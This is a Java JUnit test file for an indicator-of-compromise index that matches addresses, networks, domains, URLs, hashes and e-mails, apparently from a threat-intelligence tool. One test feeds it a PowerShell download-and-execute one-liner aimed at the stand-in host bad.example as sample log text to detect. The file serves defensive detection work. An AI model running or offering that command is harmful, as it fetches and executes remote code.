package dev.vigil.intel.ioc;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@DisplayName("The indicator index: networks, subdomains, URLs, digests, e-mail, expiry, compact storage")
class IndicatorIndexTest {
    private static final Instant NOW = Instant.parse("2025-01-01T00:00:00Z");
    private static final Provenance FEED = Provenance.of("feed", 60);

    private static Indicator indicator(String type, String value) {
        return Indicator.of(IndicatorType.fromId(type), value, FEED);
    }

    private static IndicatorIndex index(Indicator... indicators) {
        return IndicatorIndex.of(List.of(indicators), NOW);
    }

    private static List<String> matches(IndicatorIndex index, String value) {
        return index.match(value).stream().map(Indicator::key).toList();
    }

    @Test
    void addresses_match_exactly_and_within_every_network_around_them_innermost_first() {
        IndicatorIndex index = index(indicator("ipv4", "10.1.2.3"), indicator("cidr", "10.0.0.0/8"),
                indicator("cidr", "10.1.0.0/16"), indicator("cidr", "10.1.2.0/24"), indicator("cidr", "10.2.0.0/16"),
                indicator("cidr", "192.168.0.0/30"));
        assertThat(matches(index, "10.1.2.3")).containsExactly("ipv4:10.1.2.3", "cidr:10.1.2.0/24",
                "cidr:10.1.0.0/16", "cidr:10.0.0.0/8");
        assertThat(matches(index, "10.1.3.1")).containsExactly("cidr:10.1.0.0/16", "cidr:10.0.0.0/8");
        assertThat(matches(index, "10.3.0.0")).containsExactly("cidr:10.0.0.0/8");
        assertThat(matches(index, "11.0.0.0")).isEmpty();
        assertThat(matches(index, "9.255.255.255")).isEmpty();
        assertThat(matches(index, "192.168.0.3")).containsExactly("cidr:192.168.0.0/30");
        assertThat(matches(index, "192.168.0.4")).isEmpty();
        assertThat(matches(index, "10.1.2.3:443")).as("with a port").contains("ipv4:10.1.2.3");
        assertThat(matches(index, "::ffff:10.1.2.3")).as("IPv4-mapped").contains("ipv4:10.1.2.3");
    }

    @Test
    void networks_that_share_their_first_or_last_address_nest_correctly() {
        IndicatorIndex index = index(indicator("cidr", "0.0.0.0/1"), indicator("cidr", "128.0.0.0/1"),
                indicator("cidr", "255.255.255.0/24"), indicator("cidr", "255.255.255.252/30"));
        assertThat(matches(index, "255.255.255.255")).containsExactly("cidr:255.255.255.252/30",
                "cidr:255.255.255.0/24", "cidr:128.0.0.0/1");
        assertThat(matches(index, "0.0.0.0")).containsExactly("cidr:0.0.0.0/1");
        assertThat(matches(index, "127.255.255.255")).containsExactly("cidr:0.0.0.0/1");
    }

    @Test
    void ipv6_addresses_and_prefixes() {
        IndicatorIndex index = index(indicator("ipv6", "2001:db8::1"), indicator("cidr", "2001:db8::/32"),
                indicator("cidr", "2001:db8:aa::/48"), indicator("cidr", "fe80::/10"));
        assertThat(matches(index, "2001:DB8:0:0:0:0:0:1")).containsExactly("ipv6:2001:db8::1", "cidr:2001:db8::/32");
        assertThat(matches(index, "[2001:db8:aa::5]:443")).containsExactly("cidr:2001:db8:aa::/48",
                "cidr:2001:db8::/32");
        assertThat(matches(index, "fe80::1%eth0")).containsExactly("cidr:fe80::/10");
        assertThat(matches(index, "2001:db9::1")).isEmpty();
    }

    @Test
    void network_lookups_agree_with_a_linear_scan_over_random_networks() {
        Random random = new Random(11);
        List<Indicator> networks = new ArrayList<>();
        for (int i = 0; i < 2_000; i++) {
            int prefix = 8 + random.nextInt(24);
            long address = random.nextInt() & 0xFFFF_FFFFL;
            networks.add(indicator("cidr", IndicatorValues.formatIpv4(address) + "/" + prefix));
        }
        IndicatorIndex index = IndicatorIndex.of(networks, NOW);
        for (int i = 0; i < 5_000; i++) {
            long address = random.nextInt() & 0xFFFF_FFFFL;
            List<String> expected = new ArrayList<>();
            for (Indicator network : Indicators.deduplicate(networks)) {
                String value = network.value();
                int prefix = Integer.parseInt(value.substring(value.indexOf('/') + 1));
                long start = IndicatorValues.ipv4(value.substring(0, value.indexOf('/')));
                if ((address & IndicatorValues.ipv4Mask(prefix)) == start) {
                    expected.add(network.key());
                }
            }
            assertThat(matches(index, IndicatorValues.formatIpv4(address))).containsExactlyInAnyOrderElementsOf(
                    expected);
        }
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            evil.example                | domain:evil.example
            EVIL.Example                | domain:evil.example
            a.b.evil.example            | domain:evil.example
            evil.example.               | domain:evil.example
            notevil.example             |
            evil.example.com            |
            evilexample                 |
            xevil.example               |
            evil-example                |
            cdn.bad.example             | domain:bad.example,domain:cdn.bad.example
            """)
    void domains_match_themselves_and_their_subdomains_never_look_alikes(String value, String expected) {
        IndicatorIndex index = index(indicator("domain", "evil.example"), indicator("domain", "bad.example"),
                indicator("domain", "cdn.bad.example"));
        assertThat(matches(index, value)).containsExactlyInAnyOrder(expected == null ? new String[0]
                : expected.split(","));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            http://evil.example/payload.exe                | url:http://evil.example/payload.exe
            HTTPS://EVIL.example:443/payload.exe           | url:http://evil.example/payload.exe
            http://evil.example/payload.exe?id=7#x         | url:http://evil.example/payload.exe
            http://evil.example/%70ayload.exe              | url:http://evil.example/payload.exe
            http://evil.example/PAYLOAD.exe                |
            http://evil.example/gate.php?id=1              | url:http://evil.example/gate.php?id=1
            http://evil.example/gate.php?id=2              |
            """)
    void urls_match_in_normal_form_without_their_query_and_either_scheme(String value, String expected) {
        IndicatorIndex index = index(indicator("url", "http://evil.example/payload.exe"),
                indicator("url", "http://evil.example/gate.php?id=1"));
        assertThat(matches(index, value)).containsExactlyInAnyOrder(expected == null ? new String[0]
                : expected.split(","));
    }

    @Test
    void a_url_host_matches_domain_and_address_indicators() {
        IndicatorIndex index = index(indicator("domain", "evil.example"), indicator("ipv4", "203.0.113.7"));
        assertThat(matches(index, "https://cdn.evil.example/x")).containsExactly("domain:evil.example");
        assertThat(matches(index, "http://203.0.113.7:8080/x")).containsExactly("ipv4:203.0.113.7");
    }

    @Test
    void digests_match_in_any_case_and_emails_in_lower_case_with_their_domain() {
        IndicatorIndex index = index(indicator("sha256",
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
                indicator("md5", "d41d8cd98f00b204e9800998ecf8427e"), indicator("email", "billing@evil.example"),
                indicator("domain", "phish.example"));
        assertThat(matches(index, "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"))
                .containsExactly("sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
        assertThat(matches(index, "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E"))
                .as("Sysmon's list of hashes").containsExactly("md5:d41d8cd98f00b204e9800998ecf8427e");
        assertThat(matches(index, "Billing@Evil.Example")).containsExactly("email:billing@evil.example");
        assertThat(matches(index, "ceo@mail.phish.example")).containsExactly("domain:phish.example");
        assertThat(matches(index, "d41d8cd98f00b204e9800998ecf8427")).isEmpty();
    }

    @Test
    void values_are_found_inside_text() {
        IndicatorIndex index = index(indicator("ipv4", "203.0.113.7"), indicator("domain", "evil.example"),
                indicator("url", "http://bad.example/x.ps1"));
        assertThat(matches(index, "Failed password for root from 203.0.113.7 port 22 ssh2"))
                .containsExactly("ipv4:203.0.113.7");
        assertThat(matches(index, "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://bad.example/"
                + "x.ps1')\"")).containsExactly("url:http://bad.example/x.ps1");
        assertThat(matches(index, "query for www.evil.example. failed")).containsExactly("domain:evil.example");
        assertThat(matches(index, "[\"198.51.100.1\",\"203.0.113.7\"]")).containsExactly("ipv4:203.0.113.7");
        assertThat(matches(index, "client IP:203.0.113.7 denied")).containsExactly("ipv4:203.0.113.7");
        assertThat(matches(index, "GET cdn.evil.example/gate.php?id=1 200")).containsExactly("domain:evil.example");
        assertThat(matches(index, "route 203.0.113.7/32 added")).containsExactly("ipv4:203.0.113.7");
        assertThat(matches(index, "2024-05-01T12:00:00.123Z")).isEmpty();
        assertThat(matches(index, "C:\\Windows\\System32\\svchost.exe")).isEmpty();
    }

    @Test
    void only_indicators_active_at_the_instant_are_indexed() {
        Provenance expired = new Provenance(List.of("f"), 50, null, null, Instant.parse("2020-01-01T00:00:00Z"),
                Instant.parse("2024-12-31T00:00:00Z"), List.of(), List.of(), List.of(), List.of(), List.of());
        Provenance pending = new Provenance(List.of("f"), 50, null, null, Instant.parse("2025-06-01T00:00:00Z"), null,
                List.of(), List.of(), List.of(), List.of(), List.of());
        Provenance open = new Provenance(List.of("f"), 50, null, null, Instant.parse("2024-01-01T00:00:00Z"),
                Instant.parse("2025-01-01T00:00:01Z"), List.of(), List.of(), List.of(), List.of(), List.of());
        IndicatorIndex index = IndicatorIndex.of(List.of(new Indicator(IndicatorType.IPV4, "192.0.2.1", expired),
                new Indicator(IndicatorType.IPV4, "192.0.2.2", pending),
                new Indicator(IndicatorType.IPV4, "192.0.2.3", open)), NOW);
        assertThat(index.size()).isEqualTo(1);
        assertThat(matches(index, "192.0.2.1")).isEmpty();
        assertThat(matches(index, "192.0.2.2")).isEmpty();
        assertThat(matches(index, "192.0.2.3")).containsExactly("ipv4:192.0.2.3");
    }

    @Test
    void indicators_come_back_with_their_whole_provenance() {
        Provenance full = new Provenance(List.of("alpha", "beta"), 85, Instant.parse("2024-01-02T03:04:05.123456Z"),
                Instant.parse("2024-02-01T00:00:00Z"), Instant.parse("2024-01-01T00:00:00Z"),
                Instant.parse("2026-01-01T00:00:00Z"), List.of("c2", "malicious-activity"), List.of("APT-X"),
                List.of("Operation Y"), List.of("T1071.001"), List.of("indicator--1"));
        List<Indicator> indicators = List.of(new Indicator(IndicatorType.DOMAIN, "evil.example", full),
                new Indicator(IndicatorType.SHA1, "da39a3ee5e6b4b0d3255bfef95601890afd80709", full),
                new Indicator(IndicatorType.CIDR, "2001:db8::/32", full),
                new Indicator(IndicatorType.CIDR, "203.0.113.0/24", full),
                new Indicator(IndicatorType.URL, "http://xn--bcher-kva.example/ä", full),
                new Indicator(IndicatorType.EMAIL, "x@evil.example", FEED));
        IndicatorIndex index = IndicatorIndex.of(indicators, NOW);
        for (int ordinal = 0; ordinal < index.size(); ordinal++) {
            assertThat(index.indicator(ordinal)).isEqualTo(indicators.get(ordinal));
        }
        assertThat(matches(index, "http://Bücher.example/ä")).containsExactly("url:http://xn--bcher-kva.example/ä");
    }

    @Test
    void the_same_value_added_twice_is_one_indicator_with_merged_provenance() {
        IndicatorIndex index = IndicatorIndex.of(List.of(Indicator.of(IndicatorType.DOMAIN, "evil.example",
                Provenance.of("a", 40)), Indicator.of(IndicatorType.DOMAIN, "EVIL.example", Provenance.of("b", 90))),
                NOW);
        assertThat(index.size()).isEqualTo(1);
        Indicator merged = index.match("evil.example").get(0);
        assertThat(merged.provenance().feeds()).containsExactly("a", "b");
        assertThat(merged.provenance().confidence()).isEqualTo(90);
    }

    @Test
    void an_empty_index_matches_nothing() {
        IndicatorIndex index = IndicatorIndex.of(List.of(), NOW);
        assertThat(index.isEmpty()).isTrue();
        assertThat(index.match("203.0.113.7")).isEmpty();
        assertThat(index.match("evil.example")).isEmpty();
    }
}
